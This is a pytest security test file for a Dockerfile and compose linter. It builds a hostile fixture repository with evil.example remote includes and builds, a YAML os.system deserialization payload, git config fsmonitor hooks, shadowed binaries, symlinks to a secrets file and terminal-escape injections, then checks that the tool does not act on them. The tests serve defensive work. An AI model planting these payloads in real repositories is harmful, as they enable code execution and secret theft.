"""What SECURITY.md promises, sentence by sentence."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from shipworthy.cli import main

ROOT = Path(__file__).parents[1]
PROMISES = re.findall(r"^(\d+)\. ", (ROOT / "SECURITY.md").read_text("utf-8"), re.MULTILINE)
LATEST = "FROM node:latest\n"
TRAP = "import pathlib, os\npathlib.Path(os.environ['TRAP']).touch()\n"

WATCHED = r"""
import os, sys

events, root = [], os.getcwd()

def inside(path):
    return isinstance(path, (str, bytes)) and os.path.realpath(os.fsdecode(path)).startswith(root)

def watch(event, arguments):
    if event.startswith(("subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "pty.", "socket.")):
        events.append((event, str(arguments[:2])))
    elif event == "import" and inside(arguments[1]):
        events.append((event, str(arguments[:2])))
    elif event in ("compile", "exec"):
        name = getattr(arguments[-1], "co_filename", arguments[-1])
        if isinstance(name, str) and not name.startswith("<") and inside(name):
            events.append((event, name))
    elif event == "open" and isinstance(arguments[0], (str, bytes)):
        place = os.path.realpath(os.fsdecode(arguments[0]))
        if place.startswith(os.path.dirname(root)) and not inside(place):
            events.append((event, place))
        if inside(place) and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
            events.append(("write", place))

sys.addaudithook(watch)
sys.argv = ["shipworthy", *sys.argv[1:]]
from shipworthy.entry import main
try:
    main()
except SystemExit as end:
    print(repr((end.code, events)), file=sys.stderr)
"""


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository that tries what it can, as the working directory, beside a file that is none of its business."""
    folder = tmp_path / "parent" / "repository"
    for name in (".git/hooks", "rules", "shipworthy", "bin", "web"):
        (folder / name).mkdir(parents=True)
    (folder.parent / "outside").write_text("SECRET=hunter2\nservices: {a: {image: hunter2}}\n")
    trap = f"#!/bin/sh\ntouch {tmp_path}/trap\n"
    for name in (
        "click.py",
        "lark.py",
        "sitecustomize.py",
        "conftest.py",
        "rules/rule.py",
        "shipworthy/__init__.py",
        "setup.py",
    ):
        (folder / name).write_text(TRAP)
    for name in ("bin/shellcheck", "bin/git", ".git/hooks/post-checkout", "shellcheck", "docker"):
        (folder / name).write_text(trap)
        (folder / name).chmod(0o755)
    (folder / ".git/config").write_text(f"[core]\n fsmonitor = touch {tmp_path}/trap\n pager = touch {tmp_path}/trap\n")
    (folder / "Dockerfile").write_text(
        f"# syntax=evil.example/frontend\nFROM node:latest\nADD http://evil.example/x /x\nCOPY ../outside /y\n"
        f"RUN touch {tmp_path}/trap $(touch {tmp_path}/trap) `touch {tmp_path}/trap`\nRUN . ./shellcheck\n"
    )
    (folder / "compose.yaml").write_text(
        "include: [../outside, 'oci://evil.example/x', 'https://evil.example/x.git']\n"
        "x-a: !!python/object/apply:os.system ['touch trap']\n"
        "services:\n"
        "  a: {build: {context: ..}, env_file: ../outside, extends: {file: ../outside, service: a}}\n"
        "  b: {build: 'https://evil.example/x.git', image: '${HOME}${PATH}'}\n"
        "  c: {build: {context: ., dockerfile: ../outside}, env_file: link}\n"
    )
    (folder / "link").symlink_to("../outside")
    (folder / "linked.Dockerfile").symlink_to("../outside")
    (folder / "web/Dockerfile").write_text(LATEST)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("TRAP", str(tmp_path / "trap"))
    monkeypatch.setenv("SHIPWORTHY_CACHE_DIR", str(tmp_path / "cache"))
    return folder


def watched(*arguments: str) -> tuple[int, list[tuple[str, str]]]:
    """The exit code of a call in a process of its own, and what it did that it should not."""
    ran = subprocess.run([sys.executable, "-P", "-c", WATCHED, *arguments], capture_output=True, text=True, check=True)
    code, events = eval(ran.stderr.splitlines()[-1])
    return code, events


def call(*arguments: str) -> Result:
    return CliRunner().invoke(main, list(arguments))


def test_every_sentence_has_a_number() -> None:
    assert list(map(int, PROMISES)) == list(range(1, 13))


@pytest.mark.parametrize(
    "arguments",
    [
        ("check", "."),
        ("check", "--no-cache", "--select", "ALL", "--no-shellcheck", "--jobs", "2", "."),
        ("check", "--diff", "--unsafe-fixes", "."),
        ("check", "--format", "sarif", "web"),
        ("graph", "."),
        ("show", "."),
    ],
    ids=" ".join,
)
def test_1_2_3_7_9_nothing_is_run_imported_connected_read_outside_or_written(
    here: Path, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    code, events = watched(*arguments)

    assert events == []
    assert code in (0, 1, 2)
    assert not (tmp_path / "trap").exists()
    assert not (here / "trap").exists()


@pytest.mark.parametrize("options", [(), ("-P",), ("-I",), ("-OO",)], ids="".join)
def test_1_nothing_is_imported_where_the_interpreter_starts_us(
    here: Path, tmp_path: Path, options: tuple[str, ...]
) -> None:
    for name in ("json", "re", "ruamel", "typing", "tree_sitter", "signal", "tomllib", "platformdirs", "enum"):
        (here / f"{name}.py").write_text(TRAP)
    (here / "shipworthy/__init__.py").unlink()
    (here / "shipworthy").rmdir()

    for call in ("check", "show", "rules"):
        ran = subprocess.run([sys.executable, *options, "-m", "shipworthy", call], capture_output=True, text=True)
        assert (ran.returncode in (0, 1, 2), "Traceback" in ran.stderr) == (True, False), ran.stderr

    assert not (tmp_path / "trap").exists()


def test_3_what_lies_outside_is_in_no_report() -> None:
    for format in ("text", "json", "sarif", "junit"):
        assert "hunter2" not in call("check", "--select", "ALL", "--no-shellcheck", "--format", format).output


@pytest.mark.usefixtures("here")
def test_3_the_report_of_a_hostile_repository_does_not_hold_what_lies_outside() -> None:
    for arguments in (
        ["check", "--select", "ALL", "--no-shellcheck"],
        ["show", "."],
        ["graph", "."],
        ["check", "link"],
    ):
        assert "hunter2" not in call(*arguments).output


@pytest.mark.parametrize("name", ["shipworthy.toml", ".shipworthy.toml", "pyproject.toml"])
def test_3_settings_that_lead_out_of_the_repository_do_not_count(here: Path, name: str) -> None:
    outside = here.parent / "policy.toml"
    outside.write_text("ignore = ['ALL']\n[tool.shipworthy]\nignore = ['ALL']\n")
    (here / name).symlink_to("../policy.toml")

    result = call("check", "web")

    if name == "pyproject.toml":
        assert "latest-tag" in result.stdout
    else:
        assert result.exit_code == 2
        assert "leads out of the repository" in result.stderr


@pytest.mark.parametrize("setting", ["local-rules", "local_rules", "rules", "config", "extends", "shellcheck-path"])
def test_4_settings_cannot_name_code(here: Path, tmp_path: Path, setting: str) -> None:
    (here / "shipworthy.toml").write_text(f'{setting} = "rules"\n')

    result = call("check", "web")

    assert result.exit_code == 2
    assert f"there is no setting called {setting}" in result.stderr
    assert not (tmp_path / "trap").exists()


@pytest.mark.parametrize("name", ["rules", "rules.rule", "./rules", "shipworthy", "click", "../outside", ""])
def test_5_plugins_are_those_that_are_installed(here: Path, tmp_path: Path, name: str) -> None:
    (here / "shipworthy.toml").write_text(f"plugins = [{json.dumps(name)}]\n")
    info = here / "evil-1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
    (info / "entry_points.txt").write_text(f"[shipworthy.rules]\n{name or 'x'} = rules.rule\n")

    code, events = watched("check", "web")

    assert (code, events) == (2, [])
    assert not (tmp_path / "trap").exists()


@pytest.mark.parametrize("path", ["{here}/bin", "bin", ".", "", "{here}"])
def test_6_shellcheck_is_never_one_of_the_repository(
    here: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    (here / "shipworthy.toml").write_text("shellcheck = true\n")
    (here / ".shellcheckrc").write_text("external-sources=true\nsource-path=SCRIPTDIR\n")
    monkeypatch.setenv("PATH", path.format(here=here))
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))

    result = call("check", "web")

    assert result.exit_code == 2
    assert "there is no program called shellcheck" in result.stderr
    assert not (tmp_path / "trap").exists()


def test_8_the_environment_of_the_caller_decides_nothing(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = call("check", "--select", "ALL", "--no-shellcheck").output, call("show", ".").output

    for name, value in {"HOME": "/hunter2", "TAG": "hunter2", "COMPOSE_FILE": "web/x.yaml", "GIT_DIR": "/x"}.items():
        monkeypatch.setenv(name, value)

    assert (call("check", "--select", "ALL", "--no-shellcheck").output, call("show", ".").output) == before
    assert "hunter2" not in before[0] + before[1]
    assert here.is_dir()


def test_9_fixes_write_only_what_was_asked_for(here: Path) -> None:
    unsorted = "FROM alpine:3.22\nRUN apk add --no-cache wget curl\n"
    for name in ("web/Dockerfile", "bin/Dockerfile"):
        (here / name).write_text(unsorted)
    (here.parent / "outside.Dockerfile").write_text(unsorted)
    (here / "out.Dockerfile").symlink_to("../outside.Dockerfile")
    (here / "in.Dockerfile").symlink_to("bin/Dockerfile")
    before = {path: path.read_bytes() for path in here.parent.rglob("*") if path.is_file()}

    call("check", "--unsafe-fixes", "web", "out.Dockerfile", "in.Dockerfile")

    after = {path: path.read_bytes() for path in here.parent.rglob("*") if path.is_file()}
    assert {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)} == {
        here / "web/Dockerfile"
    }


@pytest.mark.parametrize("format", ["text", "concise", "json", "sarif", "github", "junit"])
def test_10_no_format_acts_on_a_terminal(here: Path, format: str) -> None:
    folder = here / "a\x1b]0;x\x07\u202e\x9b31m\n::error::x"
    folder.mkdir()
    (folder / "Dockerfile").write_text("FROM x:latest\nRUNN \x1b[2J\u2066\x85\nRUN echo \x1b]52;c;x\x07\n")

    result = call("check", "--select", "ALL", "--no-shellcheck", "--format", format, os.fspath(folder.name))

    assert result.stdout
    assert not set(result.output) & set("\x1b\x07\x85\x9b\u202e\u2066")
    assert not any(line.startswith("::error::x") for line in result.stdout.splitlines())


@pytest.mark.parametrize("format", ["graph", "graph json", "graph dot", "graph mermaid", "show", "show json"])
def test_10_no_command_acts_on_a_terminal(here: Path, format: str) -> None:
    odd = "\\u001b]0;x\\u0007\\u202e\\u009b\\u2066"
    (here / "web/compose.yaml").write_text(
        "services:\n"
        f'  "a{odd}": {{image: "x{odd}", scale: "1{odd}", ports: ["{odd}:8"], profiles: ["{odd}"]}}\n'
        f'  b: {{image: y, deploy: {{replicas: "{odd}"}}, volumes: ["v{odd}:/x"], env_file: "{odd}"}}\n'
        f'  c: {{build: {{dockerfile_inline: "FROM x:{odd}"}}, depends_on: ["{odd}"], networks: ["{odd}"]}}\n'
    )

    result = call(*format.replace(" ", " --format ").split(), "web")

    assert result.stdout
    assert not set(result.output) & set("\x1b\x07\x9b\u202e\u2066")


@pytest.mark.parametrize(
    "text",
    [
        "select = ['{}']",
        "'{}' = 1",
        "[severity]\nDL3006 = '{}'",
        "[options.'{}']",
        "profiles = ['{}']",
        "plugins = ['{}']",
        "fail-on = '{}'",
        "today = '{}'",
        "[images.'{}']\nx = 1",
        "[per-file-ignores]\n'*' = ['{}']",
        "{}",
    ],
)
def test_10_no_message_about_settings_acts_on_a_terminal(here: Path, text: str) -> None:
    escaped = "\\u001b]0;x\\u0007\\u202e\\u009b\\n::error::x"
    (here / "shipworthy.toml").write_text(text.replace("'", '"').replace("{}", escaped))

    result = call("check", "web")

    assert result.exit_code == 2
    assert not set(result.output) & set("\x1b\x07\x9b\u202e")
    assert len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize("format", ["text", "concise", "json", "sarif", "github", "junit"])
def test_12_no_report_holds_a_secret(here: Path, format: str) -> None:
    secrets = ("wJalrXUtnFEMIK7MDENGbPxRfiCYzzQWERTYKEY1", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "correcthorse77")
    (here / "web/Dockerfile").write_text(
        f"FROM alpine:3.22\nENV AWS_SECRET_ACCESS_KEY {secrets[0]}\nARG GITHUB_TOKEN={secrets[1]}\n"
    )
    (here / "web/compose.yaml").write_text(
        "services:\n  a:\n    image: postgres:17\n    environment:\n"
        f"      POSTGRES_PASSWORD: {secrets[2]}\n      LANG: C\n"
    )

    output = call("check", "--select", "ALL", "--no-shellcheck", "--format", format, "web").output

    assert "AWS_SECRET_ACCESS_KEY" in output
    assert not [secret for secret in secrets if secret in output]


def test_12_no_message_of_another_rule_quotes_a_secret(here: Path) -> None:
    secret = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
    (here / "web/Dockerfile").write_text(f"FROM {secret}\nENV GITHUB_TOKEN={secret}\n")

    output = call("check", "--select", "ALL", "--no-shellcheck", "--format", "concise", "web").output

    assert "`ghp_***`" in output
    assert secret not in output


def test_12_a_fix_that_writes_a_secret_is_applied_and_not_shown(here: Path) -> None:
    (here / "web/Dockerfile").write_text("FROM alpine:3.22\nENV GITHUB_TOKEN correcthorse77\n")

    (found,) = json.loads(call("check", "--select", "dockerfile/legacy-key-value", "--format", "json", "web").output)[
        "findings"
    ]
    assert found["fix"] is not None
    shown = json.loads(call("check", "--select", "ALL", "--format", "json", "web").output)["findings"]
    assert [f["fix"] for f in shown if f["rule"] == "dockerfile/legacy-key-value"] == [None]
    call("check", "--select", "ALL", "--fix", "web")
    assert "ENV GITHUB_TOKEN=correcthorse77\n" in (here / "web/Dockerfile").read_text()


@pytest.mark.parametrize("name", ["Dockerfile", "compose.yaml", ".dockerignore", ".env", ".gitignore"])
def test_11_of_a_file_10_megabytes_are_read_at_most(here: Path, name: str) -> None:
    with (here / "web" / name).open("wb") as file:
        file.truncate(3_000_000_000)

    assert call("check", "web").exit_code in (0, 1, 2)
